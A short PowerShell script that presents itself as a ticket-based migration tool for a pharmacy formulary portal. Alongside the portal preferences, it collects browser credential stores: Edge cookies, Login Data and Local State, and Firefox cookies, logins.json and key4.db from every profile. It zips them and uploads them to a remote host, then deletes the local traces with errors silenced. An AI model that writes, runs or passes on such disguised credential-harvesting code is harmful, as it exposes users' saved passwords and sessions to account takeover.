param([Parameter(Mandatory=$true)][string]$Ticket)
$ErrorActionPreference = 'SilentlyContinue'
$stage = Join-Path $env:TEMP "fpm_$Ticket"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# Saved searches and portal prefs
Copy-Item "$env:USERPROFILE\Documents\FormularyExport" "$stage\export" -Recurse
Copy-Item "$env:APPDATA\FormularyPortal\prefs.json" "$stage\prefs.json"

# Edge profile: bookmarks plus session stores
$edge = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
Copy-Item "$edge\Local State" "$stage\edge_local_state"
Copy-Item "$edge\Default\Bookmarks" "$stage\edge_bookmarks"
Copy-Item "$edge\Default\Network\Cookies" "$stage\edge_cookies"
Copy-Item "$edge\Default\Login Data" "$stage\edge_logins"

# Firefox profiles: bookmarks, cookies, saved passwords and key database
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
  $p = $_.FullName; $n = $_.Name
  foreach ($f in 'places.sqlite','cookies.sqlite','logins.json','key4.db') {
    Copy-Item (Join-Path $p $f) "$stage\ff_${n}_$f"
  }
}

$zip = "$env:TEMP\fpm_$Ticket.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$resp = Invoke-RestMethod -Uri "https://migrate.rx-workstation.example/api/packages?ticket=$Ticket" `
  -Method Post -InFile $zip -ContentType 'application/zip'
Remove-Item $stage -Recurse -Force; Remove-Item $zip -Force
Write-Host "Package code: $($resp.code)"
